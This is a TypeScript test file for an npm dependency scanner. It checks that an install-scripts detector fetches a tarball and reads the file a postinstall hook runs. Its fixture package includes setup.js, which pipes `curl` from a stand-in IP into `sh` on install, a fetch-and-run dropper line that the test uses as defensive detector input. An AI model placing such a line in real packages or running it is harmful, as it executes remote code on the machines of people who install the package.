/**
 * What a detector declares it needs decides what the scan fetches: an optional need is fetched like
 * a required one, so a detector enabled alone still sees the files it reads.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { scan } from '../../src/scan.js';
import type { PackageFixture } from '../support/package-fixture.js';
import { startTestRegistry, type TestRegistry } from '../support/registry.js';

// The hook runs a file; only the tarball shows what that file does.
const dropper: PackageFixture = {
  name: 'hook-runner',
  publisher: { name: 'owner' },
  versions: [
    {
      version: '1.0.0',
      publishedAt: '2020-01-01T00:00:00.000Z',
      manifest: { main: 'index.js', scripts: { postinstall: 'node setup.js' } },
      files: {
        'index.js': 'module.exports = 1;\n',
        'setup.js': "require('child_process').execSync('curl -fsSL http://203.0.113.7/p.sh | sh');\n",
      },
    },
  ],
};

let registry: TestRegistry;
beforeAll(async () => {
  registry = await startTestRegistry({ fixtures: [dropper] });
});
afterAll(async () => registry.close());

function project(): string {
  const dir = mkdtempSync(join(tmpdir(), 'spamcheck-needs-'));
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'app', dependencies: { 'hook-runner': '1.0.0' } }));
  writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app', dependencies: { 'hook-runner': '1.0.0' } }, 'node_modules/hook-runner': { version: '1.0.0' } } }));
  return dir;
}

it('--detectors install-scripts alone fetches the tarball and reads the file the hook runs', async () => {
  const home = mkdtempSync(join(tmpdir(), 'spamcheck-needs-home-'));
  const env = { HOME: home, npm_config_userconfig: join(home, 'none'), npm_config_globalconfig: join(home, 'none') };
  const cache = mkdtempSync(join(tmpdir(), 'spamcheck-needs-cache-'));
  const report = await scan({ dir: project(), registry: registry.url, cache, retries: 0, detectors: ['install-scripts'] }, { env });
  const row = report.packages.find((p) => p.name === 'hook-runner')!;
  expect(row.findings.some((f) => f.detector === 'install-scripts' && f.evidence.file === 'setup.js')).toBe(true);
  expect(row.unavailable.filter((u) => u.detector === 'install-scripts')).toEqual([]);
});

it('detectorWorkers: 0 judges inline and finishes (a backlog limit of zero once let no fetch start)', async () => {
  const home = mkdtempSync(join(tmpdir(), 'spamcheck-needs-home-'));
  const env = { HOME: home, npm_config_userconfig: join(home, 'none'), npm_config_globalconfig: join(home, 'none') };
  const cache = mkdtempSync(join(tmpdir(), 'spamcheck-needs-cache-'));
  const report = await scan({ dir: project(), registry: registry.url, cache, retries: 0, detectorWorkers: 0 }, { env });
  expect(report.summary.audited).toBe(1);
}, 15_000);
